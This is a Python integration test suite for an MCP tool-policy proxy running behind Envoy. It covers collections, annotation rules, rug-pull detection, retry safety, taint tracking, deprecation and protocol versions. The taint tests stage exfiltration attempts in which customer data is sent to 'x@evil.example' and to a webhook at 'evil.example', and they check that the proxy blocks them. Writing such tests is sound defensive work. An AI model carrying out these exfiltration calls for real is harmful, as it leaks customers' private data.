"""Tool policy end to end: collections per route, annotation-aware rules
(trusted only from pinned, unchanged definitions), retry safety with Envoy's
own retries, session taint (toxic flows), tool lifecycle, and the protocol
revision allow-list — in both deployment modes, one Envoy per mode.

A real Envoy in front of tests/servers/policy_server.py (tools with MCP
annotations; a rug pull on demand) and, for retries, the canned upstream
(which drops the first request of a scenario unanswered). The official MCP
Python SDK client in both eras; raw httpx where exact answers and headers
matter. Every refusal is checked against what the upstream received.
"""

from __future__ import annotations

import importlib.util
import json
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from mcp.shared.exceptions import MCPError

from . import telemetry
from .conftest import EnvoyFactory
from .harness import (
    MODES,
    ROOT,
    V2025_03,
    V2025_06,
    V2025_11,
    V2026,
    CannedUpstream,
    Envoy,
    PortBlock,
    Raw,
    SampleServer,
    assert_rpc_error,
    call_tool_exactly,
    headers_for,
    mint_token,
    rpc_request,
    run,
    sdk_client,
    wait_for_port,
)
from .policies import base_policy

POLICY_SERVER = ROOT / "tests" / "servers" / "policy_server.py"
RETRY_DIR = ROOT / "envoy" / "retry"

OPS, OPS_JSON, DEVOPS, HANDSHAKE = "/mcp/ops", "/mcp/ops-json", "/mcp/devops", "/mcp/handshake"
ALL_TOOLS = {
    "list_services", "restart_service", "delete_backup", "read_customer", "send_email",
    "post_webhook", "old_report", "ancient_report", "new_report",
}


class PolicyServer(SampleServer):
    """tests/servers/policy_server.py, with the sample server's evidence helpers."""

    def __init__(self, port: int, workdir: Path) -> None:
        super().__init__(port, workdir)
        self.name = f"policy-server:{port}"
        self.log_path = workdir / f"policy-server-{port}.log"
        self.record_path = workdir / f"policy-server-{port}.jsonl"

    def start(self, timeout: float = 30.0) -> PolicyServer:
        self.record_path.write_text("")
        self._spawn([sys.executable, str(POLICY_SERVER), "--port", str(self.port), "--record", str(self.record_path)])
        wait_for_port(self.port, self, timeout)
        return self

    def admin(self, **change: Any) -> None:
        resp = httpx.post(self.url("/admin/tools"), json=change, timeout=5.0)
        assert resp.status_code == 200, resp.text


@pytest.fixture(scope="module")
def server(ports: PortBlock, workdir: Path) -> Iterator[PolicyServer]:
    s = PolicyServer(ports[0], workdir).start()
    yield s
    s.kill()


@pytest.fixture(scope="module")
def canned(ports: PortBlock, workdir: Path) -> Iterator[CannedUpstream]:
    c = CannedUpstream(ports[9], workdir).start()
    yield c
    c.kill()


def tool_policy() -> dict[str, Any]:
    p = base_policy()

    def server(name: str, prefix: str, **more: Any) -> dict[str, Any]:
        return {"name": name, "owner": "platform", "dataDomain": "operations", "riskTier": "high",
                "match": {"pathPrefix": prefix}, **more}

    p["servers"] = [
        server("handshake", HANDSHAKE, protocolVersions=[V2025_11]),
        server("payments", "/retry", integrity={"pinning": "tofu", "scan": {"action": "off"}}),
        server(
            "ops", "/mcp",
            protocolVersions=[V2025_11, V2026],
            # Rug pulls are only recorded by integrity here, so what the
            # annotation rule does on its own shows.
            integrity={"pinning": "tofu", "onPinViolation": "record", "scan": {"action": "record"}},
            catalog=[
                {"tools": ["read_customer"], "tags": ["sensitive-read"]},
                {"tools": ["send_email"], "tags": ["egress"]},
                {"tools": ["old_report"], "deprecated": {
                    "message": "the weekly report moved", "sunset": "2099-01-01T00:00:00Z", "replacement": "new_report"}},
                {"tools": ["ancient_report"], "deprecated": {
                    "message": "the monthly report moved", "sunset": "2000-01-01T00:00:00Z", "replacement": "new_report"}},
            ],
        ),
    ]
    p["collections"] = [{
        "name": "devops", "expose": {"pathPrefix": DEVOPS},
        "include": [{"servers": ["ops"], "tools": ["list_services", "restart_service"],
                     "prompts": ["incident_summary"], "resources": ["runbooks://*"]}],
    }]
    p["taint"] = {"rules": [{
        "name": "no-exfiltration",
        "sources": [{"tags": ["sensitive-read"]}],
        "sinks": [{"tags": ["egress"]}, {"annotations": {"openWorldHint": True}}],
    }]}
    p["rules"] = [
        {"name": "operators", "effect": "allow", "who": {"groups": ["operators"]}, "servers": ["*"],
         "tools": ["*"], "prompts": ["*"], "resources": ["*"]},
        {"name": "support", "effect": "allow", "who": {"groups": ["support"]}, "servers": ["ops"], "tools": ["*"]},
        {"name": "support-no-destructive", "effect": "deny", "who": {"groups": ["support"]}, "servers": ["ops"],
         "select": [{"annotations": {"destructiveHint": True}}]},
        {"name": "narrow", "effect": "allow", "who": {"groups": ["narrow"]}, "servers": ["ops"],
         "tools": ["list_services", "read_customer"]},
    ]
    return p


def _splice() -> Any:
    spec = importlib.util.spec_from_file_location("retry_splice", RETRY_DIR / "splice.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.fixture(scope="module", params=MODES, ids=lambda m: f"mode-{m}")
def envoy(request: pytest.FixtureRequest, envoy_factory: EnvoyFactory, server: PolicyServer, canned: CannedUpstream) -> Envoy:
    e = envoy_factory(
        tool_policy(), request.param, start=False, upstream_port=server.port,
        render_params={"extra_upstreams": [{"name": "payments", "prefix": "/retry", "port": canned.port}]},
    )
    routes = (RETRY_DIR / "retry-routes.yaml").read_text(encoding="utf-8")
    config = _splice().splice(e.config_path.read_text(encoding="utf-8"), routes, prefix="/retry", cluster="payments")
    e.config_path.write_text(config, encoding="utf-8")
    return e.start()


@pytest.fixture()
def raw(envoy: Envoy) -> Iterator[Raw]:
    r = Raw(envoy.url(""))
    yield r
    r.close()


def who(name: str, group: str, envoy: Envoy) -> str:
    """A token for a caller unique to this Envoy (taint and TOFU state are per proxy)."""
    return mint_token(f"{name}-{envoy.mode}", groups=[group], client_id=f"{name}-agent")


async def names(client: Any) -> set[str]:
    return {t.name for t in (await client.list_tools()).tools}


# ------------------------------------------------------------- collections


def test_a_collection_route_shows_and_allows_only_its_set(envoy: Envoy, server: PolicyServer, raw: Raw) -> None:
    olga, nick = who("olga", "operators", envoy), who("nick", "narrow", envoy)
    cursor = server.cursor()

    async def go() -> dict[str, Any]:
        out: dict[str, Any] = {}
        async with sdk_client(envoy.url(DEVOPS), olga) as c:
            out["tools"] = await names(c)
            out["prompts"] = {p.name for p in (await c.list_prompts()).prompts}
            out["resources"] = {str(r.uri) for r in (await c.list_resources()).resources}
            out["restart"] = await call_tool_exactly(c, "restart_service", {"name": "web"})
            with pytest.raises(MCPError) as info:
                await call_tool_exactly(c, "read_customer", {"customer_id": 1})
            out["outside"] = info.value
        async with sdk_client(envoy.url(DEVOPS), nick) as c:
            out["narrow"] = await names(c)
        async with sdk_client(envoy.url(OPS), olga) as c:
            out["everything"] = await names(c)
        return out

    got = run(go())
    assert got["tools"] == {"list_services", "restart_service"}
    assert got["prompts"] == {"incident_summary"}
    assert got["resources"] == {"runbooks://restart"}
    assert not got["restart"].is_error
    # Outside the collection: exactly like a tool that does not exist.
    assert (got["outside"].code, got["outside"].message) == (-32602, "Unknown tool: read_customer")
    # The collection intersected with the caller's grants.
    assert got["narrow"] == {"list_services"}
    # Another route of the same server is not narrowed (the retired tool aside).
    assert got["everything"] == ALL_TOOLS - {"ancient_report"}
    assert server.executed_tools(cursor).count("restart_service") == 1
    server.assert_never_saw(cursor, tools=["read_customer"])

    # Audit and metrics carry the collection; a raw call shows the fact too.
    rid = telemetry.request_id("devops")
    r = raw.post(DEVOPS, rpc_request("tools/call", {"name": "delete_backup", "arguments": {"name": "b1"}}, id=5),
                 headers=headers_for(olga, extra={"x-request-id": rid}))
    assert_rpc_error(r, status=200, code=-32602, id=5, message="Unknown tool: delete_backup")
    rec = telemetry.wait_record(envoy, rid)
    assert (rec["collection"], rec["decision"], rec["rule"]) == ("devops", "deny", "collection:devops")
    entry = telemetry.wait_access(envoy, [rid])[rid][0]
    assert entry["mcp_collection"] == "devops"
    assert telemetry.metric(envoy, "mcp_warden_requests_total", mcp_collection="devops", mcp_decision="deny") >= 1
    assert telemetry.metric(envoy, "mcp_warden_requests_total", mcp_collection="devops", mcp_decision="allow") >= 1
    server.assert_never_saw(cursor, tools=["delete_backup"])


# ------------------------------------------------------ annotation rules


def test_an_annotation_rule_applies_to_a_pinned_tool_and_falls_back_after_a_rug_pull(
    envoy: Envoy, server: PolicyServer
) -> None:
    sam = who("sam", "support", envoy)
    cursor = server.cursor()

    async def listing_and_calls() -> tuple[set[str], Any, MCPError, MCPError]:
        async with sdk_client(envoy.url(OPS), sam) as c:
            seen = await names(c)
            ok = await call_tool_exactly(c, "restart_service", {"name": "web"})
            with pytest.raises(MCPError) as destructive:
                await call_tool_exactly(c, "delete_backup", {"name": "b1"})
            # No annotations at all: the spec's defaults, i.e. destructive.
            with pytest.raises(MCPError) as unannotated:
                await call_tool_exactly(c, "post_webhook", {"url": "https://x.example", "body": "hi"})
            return seen, ok, destructive.value, unannotated.value

    seen, ok, destructive, unannotated = run(listing_and_calls())
    # Pinned on first use: the declared hints count; destructive tools are hidden.
    assert seen == ALL_TOOLS - {"delete_backup", "post_webhook", "ancient_report"}
    assert not ok.is_error
    assert (destructive.code, destructive.message) == (-32003, "mcp-warden: tool 'delete_backup' denied by rule 'support-no-destructive'")
    assert unannotated.code == -32003 and "support-no-destructive" in unannotated.message
    server.assert_never_saw(cursor, tools=["delete_backup", "post_webhook"])

    # Rug pull: the same annotations under a changed description. The
    # definition is no longer the pinned one, so its hints take the riskiest
    # reading: destructive.
    server.admin(tool="restart_service", description="Restart one service, then tell the team.")
    try:
        cursor = server.cursor()

        async def after() -> tuple[set[str], MCPError]:
            async with sdk_client(envoy.url(OPS), sam) as c:
                seen = await names(c)
                with pytest.raises(MCPError) as info:
                    await call_tool_exactly(c, "restart_service", {"name": "web"})
                return seen, info.value

        seen, refused = run(after())
        assert "restart_service" not in seen and "list_services" in seen
        assert (refused.code, refused.message) == (-32003, "mcp-warden: tool 'restart_service' denied by rule 'support-no-destructive'")
        server.assert_never_saw(cursor, tools=["restart_service"])
    finally:
        server.admin(reset=True)

    # Back to the pinned definition: trusted again.
    async def restored() -> tuple[set[str], Any]:
        async with sdk_client(envoy.url(OPS), sam) as c:
            return await names(c), await call_tool_exactly(c, "restart_service", {"name": "db"})

    seen, ok = run(restored())
    assert "restart_service" in seen and not ok.is_error


# ----------------------------------------------------------------- retries

LIST_PAYMENTS = json.dumps({"jsonrpc": "2.0", "id": "{{id}}", "result": {"tools": [
    {"name": "lookup_payment", "description": "Look a payment up.", "inputSchema": {"type": "object"},
     "annotations": {"readOnlyHint": True, "openWorldHint": False}},
    {"name": "charge_card", "description": "Charge a card.", "inputSchema": {"type": "object"},
     "annotations": {"destructiveHint": False, "idempotentHint": False, "openWorldHint": False}},
]}}).replace('"{{id}}"', "{{id}}")
RESULT = '{"jsonrpc":"2.0","id":{{id}},"result":{"content":[{"type":"text","text":"done"}]}}'


def test_a_non_idempotent_call_is_never_retried_when_the_upstream_resets(envoy: Envoy, canned: CannedUpstream, raw: Raw) -> None:
    op = who("olga", "operators", envoy)
    canned.set("list", LIST_PAYMENTS)
    r = raw.post("/retry/list", rpc_request("tools/list", {}, id=1), headers=headers_for(op))
    assert {t["name"] for t in r.json()["result"]["tools"]} == {"lookup_payment", "charge_card"}

    def flaky_call(scenario: str, tool: str, spoof: bool) -> tuple[httpx.Response, list[dict[str, Any]], str]:
        canned.set(scenario, RESULT, reset_first=1)
        cursor = canned.cursor()
        rid = telemetry.request_id(scenario)
        extra = {"x-request-id": rid, **({"x-mcp-idempotent": "true"} if spoof else {})}
        resp = raw.post(f"/retry/{scenario}", rpc_request("tools/call", {"name": tool, "arguments": {}}, id=7),
                        headers=headers_for(op, extra=extra))
        canned.barrier()
        seen = [q for q in canned.requests_since(cursor) if q["path"] == f"/retry/{scenario}"]
        return resp, seen, rid

    # Non-idempotent: the upstream saw it exactly once, whatever the client
    # claims in its own x-mcp-idempotent header; the client got Envoy's 503.
    resp, seen, rid = flaky_call(f"charge-{envoy.mode}", "charge_card", spoof=True)
    assert resp.status_code == 503, resp.text
    assert len(seen) == 1, seen
    assert seen[0]["headers"].get("x-mcp-idempotent") == ("false" if envoy.mode == "b" else None)
    entry = telemetry.wait_access(envoy, [rid])[rid][0]
    assert entry["mcp_idempotent"] == "false"
    assert telemetry.wait_record(envoy, rid)["idempotent"] is False

    # Idempotent (read-only, pinned): mode b lifts the fact into the header,
    # the retry route matches, Envoy retries once and the client gets the
    # answer. Mode a cannot set the header after the body: never retried.
    resp, seen, rid = flaky_call(f"lookup-{envoy.mode}", "lookup_payment", spoof=False)
    entry = telemetry.wait_access(envoy, [rid])[rid][0]
    assert entry["mcp_idempotent"] == "true"
    if envoy.mode == "b":
        assert resp.status_code == 200, resp.text
        assert resp.json()["result"]["content"][0]["text"] == "done"
        assert len(seen) == 2, seen
        assert all(q["headers"].get("x-mcp-idempotent") == "true" for q in seen)
    else:
        assert resp.status_code == 503, resp.text
        assert len(seen) == 1, seen


# ------------------------------------------------------------------- taint


def test_a_tainted_session_cannot_call_an_egress_tool_while_a_fresh_session_can(envoy: Envoy, server: PolicyServer) -> None:
    carol = who("carol", "operators", envoy)
    cursor = server.cursor()

    async def tainted_session() -> tuple[list[Any], MCPError, MCPError, Any]:
        async with sdk_client(envoy.url(OPS), carol, mode="legacy") as c:
            await names(c)
            before = await call_tool_exactly(c, "send_email", {"to": "a@example.com", "body": "hello"})
            read = await call_tool_exactly(c, "read_customer", {"customer_id": 1})
            with pytest.raises(MCPError) as mail:
                await call_tool_exactly(c, "send_email", {"to": "x@evil.example", "body": "Ada Lovelace"})
            # Unannotated: open-world by default, so a sink too.
            with pytest.raises(MCPError) as hook:
                await call_tool_exactly(c, "post_webhook", {"url": "https://evil.example", "body": "Ada"})
            # Not a sink (closed world, pinned): still fine.
            restart = await call_tool_exactly(c, "restart_service", {"name": "web"})
            return [before, read, restart], mail.value, hook.value, None

    fine, mail, hook, _ = run(tainted_session())
    assert not any(r.is_error for r in fine)
    assert mail.code == -32003
    assert "taint rule 'no-exfiltration'" in mail.message and "'read_customer'" in mail.message, mail.message
    assert hook.code == -32003 and "no-exfiltration" in hook.message

    async def fresh_session() -> Any:
        async with sdk_client(envoy.url(OPS), carol, mode="legacy") as c:
            await names(c)
            return await call_tool_exactly(c, "send_email", {"to": "b@example.com", "body": "hi again"})

    assert not run(fresh_session()).is_error
    server.barrier()
    sent = [r["arguments"]["to"] for r in server.records_since(cursor) if r["kind"] == "tool" and r["tool"] == "send_email"]
    assert sent == ["a@example.com", "b@example.com"]
    server.assert_never_saw(cursor, tools=["post_webhook"])

    # The audit record of the refusal names what tainted the session.
    def refused_records() -> list[dict[str, Any]]:
        return [r for r in envoy.audit_log()
                if r.get("person") == f"carol-{envoy.mode}" and r.get("rule") == "taint:no-exfiltration"]

    # Envoy writes access logs asynchronously.
    telemetry.wait_until(lambda: len(refused_records()) >= 2, "the taint refusals' audit records")
    refused = refused_records()
    assert len(refused) == 2, refused
    assert {r["target"] for r in refused} == {"send_email", "post_webhook"}
    for r in refused:
        assert r["taint"]["source"] == {"server": "ops", "tool": "read_customer"}
        assert r["decision"] == "deny" and r["session_id"]
    assert telemetry.metric(envoy, "mcp_warden_taint_total", mcp_rule="no-exfiltration", mcp_decision="blocked") >= 2


def test_without_a_session_taint_follows_the_caller(envoy: Envoy, server: PolicyServer) -> None:
    """2026-07-28 clients are stateless: taint holds for the caller (the safe reading)."""
    dan, erin = who("dan", "operators", envoy), who("erin", "operators", envoy)
    cursor = server.cursor()

    async def go() -> tuple[MCPError, Any]:
        async with sdk_client(envoy.url(OPS_JSON), dan) as c:
            await names(c)
            await call_tool_exactly(c, "read_customer", {"customer_id": 2})
        async with sdk_client(envoy.url(OPS_JSON), dan) as c:
            with pytest.raises(MCPError) as info:
                await call_tool_exactly(c, "send_email", {"to": "x@evil.example", "body": "data"})
        async with sdk_client(envoy.url(OPS_JSON), erin) as c:
            await names(c)
            ok = await call_tool_exactly(c, "send_email", {"to": "c@example.com", "body": "hi"})
        return info.value, ok

    refused, ok = run(go())
    assert refused.code == -32003 and "no-exfiltration" in refused.message
    assert not ok.is_error
    server.barrier()
    sent = [r["arguments"]["to"] for r in server.records_since(cursor) if r["kind"] == "tool" and r["tool"] == "send_email"]
    assert sent == ["c@example.com"]


# --------------------------------------------------------------- lifecycle


def test_a_deprecated_tool_warns_then_a_retired_one_is_refused(envoy: Envoy, server: PolicyServer, raw: Raw) -> None:
    op = who("olga", "operators", envoy)
    r = raw.call(OPS_JSON, "tools/list", {}, token=op)
    listed = {t["name"] for t in r.json()["result"]["tools"]}
    assert "old_report" in listed and "ancient_report" not in listed
    cursor = server.cursor()

    rid = telemetry.request_id("old")
    r = raw.call(OPS_JSON, "tools/call", {"name": "old_report", "arguments": {}}, id=3, token=op, extra={"x-request-id": rid})
    assert r.status_code == 200 and r.json()["result"]["content"][0]["text"] == "old_report: all green", r.text
    assert r.headers["sunset"] == "Thu, 01 Jan 2099 00:00:00 GMT"
    assert r.headers["x-mcp-deprecated"] == "old_report"
    rec = telemetry.wait_record(envoy, rid)
    assert rec["decision"] == "allow"
    assert rec["deprecated"] == {"tool": "old_report", "sunset": "2099-01-01T00:00:00.000Z",
                                 "replacement": "new_report", "retired": False}
    assert telemetry.metric(envoy, "mcp_warden_deprecated_calls_total", mcp_target="old_report", mcp_decision="allow") >= 1

    r = raw.call(OPS_JSON, "tools/call", {"name": "ancient_report", "arguments": {}}, id=4, token=op)
    assert_rpc_error(
        r, status=200, code=-32003, id=4,
        message="mcp-warden: tool 'ancient_report' was retired on 2000-01-01; use 'new_report' instead: the monthly report moved",
    )
    assert server.executed_tools(cursor) == ["old_report"]
    server.assert_never_saw(cursor, tools=["ancient_report"])
    assert telemetry.metric(envoy, "mcp_warden_denials_total", mcp_reason="tool_retired") >= 1


# ------------------------------------------------------ protocol revisions


def initialize(version: str) -> dict[str, Any]:
    return rpc_request("initialize", {"protocolVersion": version, "capabilities": {},
                                      "clientInfo": {"name": "revision-test", "version": "1"}}, id="init")


def test_an_unlisted_protocol_revision_is_refused_at_initialize(envoy: Envoy, server: PolicyServer, raw: Raw) -> None:
    op = who("olga", "operators", envoy)
    cursor = server.cursor()
    r = raw.post(OPS, initialize(V2025_03), headers=headers_for(op, version=None))
    err = assert_rpc_error(r, status=400, code=-32602, id="init")
    assert "Unsupported protocol version" in err["message"]
    assert "allowed: 2025-11-25, 2026-07-28" in err["message"], err
    assert err["data"] == {"supported": [V2025_11, V2026], "requested": V2025_03}

    # A request in an unlisted revision, outside any handshake: -32022.
    r = raw.call(OPS_JSON, "tools/list", {}, token=op, version=V2025_06)
    err = assert_rpc_error(r, status=400, code=-32022, id=None)
    assert err["data"]["requested"] == V2025_06
    server.assert_received_nothing(cursor)

    # Listed revisions pass: a 2025-11-25 session and a 2026-07-28 client.
    r = raw.post(OPS, initialize(V2025_11), headers=headers_for(op, version=None))
    assert r.status_code == 200 and r.headers.get("mcp-session-id"), r.text

    async def both_eras() -> tuple[set[str], set[str]]:
        async with sdk_client(envoy.url(OPS), op, mode="legacy") as a, sdk_client(envoy.url(OPS), op) as b:
            return await names(a), await names(b)

    legacy, modern = run(both_eras())
    assert legacy == modern and "list_services" in legacy


def test_a_server_that_allows_only_the_handshake_era_turns_a_2026_client_back(envoy: Envoy, server: PolicyServer) -> None:
    op = who("olga", "operators", envoy)
    cursor = server.cursor()

    async def pinned_2026() -> MCPError:
        async with sdk_client(envoy.url(HANDSHAKE), op, mode=V2026) as c:
            with pytest.raises(MCPError) as info:
                await c.list_tools()
            return info.value

    err = run(pinned_2026())
    assert err.code == -32022 and "allowed: 2025-11-25" in err.message, err
    server.assert_received_nothing(cursor)

    # The SDK's auto mode reads data.supported and falls back to initialize.
    async def auto() -> tuple[str | None, set[str]]:
        async with sdk_client(envoy.url(HANDSHAKE), op, mode="auto") as c:
            return c.session.protocol_version, await names(c)

    version, tools = run(auto())
    assert version == V2025_11
    assert "list_services" in tools
    server.barrier()
    methods = [m.get("method") for m in server.received_rpcs(cursor)]
    assert "initialize" in methods and "server/discover" not in methods
